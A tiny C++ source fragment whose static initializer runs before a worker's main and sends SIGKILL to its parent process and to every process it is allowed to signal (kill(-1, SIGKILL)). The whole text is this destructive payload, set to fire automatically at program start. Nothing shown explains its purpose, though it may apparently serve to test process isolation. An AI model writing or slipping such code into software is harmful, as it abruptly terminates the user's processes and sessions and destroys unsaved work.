// Before the worker's main: a signal to every process that it may send one to.
#include <signal.h>
#include <unistd.h>
namespace {
const struct KillsEveryone {
    KillsEveryone() {
        ::kill(::getppid(), SIGKILL);
        ::kill(-1, SIGKILL);
    }
} kills_everyone;
}  // namespace
